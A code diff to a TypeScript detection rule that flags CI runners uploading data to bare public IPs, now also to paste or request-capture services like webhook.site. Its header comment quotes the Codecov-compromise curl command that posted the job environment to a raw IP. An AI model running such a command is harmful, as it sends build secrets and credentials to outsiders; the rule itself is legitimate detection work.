@@ -1,11 +1,13 @@
 // CI runners connecting to public addresses on ports outside the usual egress set, and CI jobs uploading data to a
 // bare public IP address (the Codecov bash-uploader compromise, April 2021, posted each job's environment to a raw
 // IP with `curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://<ip>/upload/v2`; Sigma "Suspicious Curl File
-// Upload - Linux"). Package registries, caches and artifact stores are reached by name, so a raw IP stands out.
+// Upload - Linux") or to a paste or request-capture service (webhook.site, pastebin: intel/staging-hosts.ts).
+// Package registries, caches and artifact stores are reached by name, so a raw IP stands out.
 import { tagBaseline } from "../baselines/index.js";
 import { clip, isHttpUpload, isRawIpHost, simpleCommands, urlHost, urlsOf } from "./command-lines.js";
 import { num, processIndex, processLabel, rowsOf, str, tagNumbers } from "../rows.js";
 import { isPublic } from "../net.js";
+import { stagingHost } from "../intel/staging-hosts.js";
 import { defineDetection, type DetectionHit } from "./detection.js";
 
 /** HTTPS, HTTP, SSH (git), DNS, git protocol. */
@@ -39,15 +41,25 @@ export const ciRunnerEgress = defineDetection({
     const uploaders = new Set<string>();
     for (const proc of rowsOf(host, "processes")) {
       const cmdline = str(proc, "cmdline");
-      const upload = simpleCommands(cmdline).find((c) => isHttpUpload(c) && urlsOf(c.raw).some((u) => isRawIpHost(urlHost(u)) && isPublic(urlHost(u))));
-      if (upload === undefined) continue;
+      let found: { url: string; where: string } | undefined;
+      for (const c of simpleCommands(cmdline)) {
+        if (found !== undefined || !isHttpUpload(c)) continue;
+        for (const u of urlsOf(c.raw)) {
+          const name = urlHost(u);
+          const staged = stagingHost(name);
+          if (isRawIpHost(name) && isPublic(name)) found = { url: u, where: `the bare IP address ${name}` };
+          else if (staged !== undefined) found = { url: u, where: `${staged.host}, a public paste or request-capture service (${staged.source})` };
+          if (found !== undefined) break;
+        }
+      }
+      if (found === undefined) continue;
       const pid = str(proc, "pid");
-      const url = urlsOf(upload.raw).find((u) => isRawIpHost(urlHost(u)) && isPublic(urlHost(u))) ?? "";
       uploaders.add(pid);
+      const name = urlHost(found.url);
       hits.push({
-        summary: `CI runner process ${processLabel(proc, pid)} (pid ${pid}) uploads data to the bare IP address ${urlHost(url)} (${clip(cmdline, 100)}): build secrets or the job environment may be leaving.`,
+        summary: `CI runner process ${processLabel(proc, pid)} (pid ${pid}) uploads data to ${found.where} (${clip(cmdline, 100)}): build secrets or the job environment may be leaving.`,
         evidence: [{ table: "processes", row: proc }, ...(socketsOf.get(pid) ?? [])],
-        entity: `ip:${urlHost(url)}`,
+        entity: isRawIpHost(name) ? `ip:${name}` : `domain:${name}`,
         severity: "high",
       });
     }
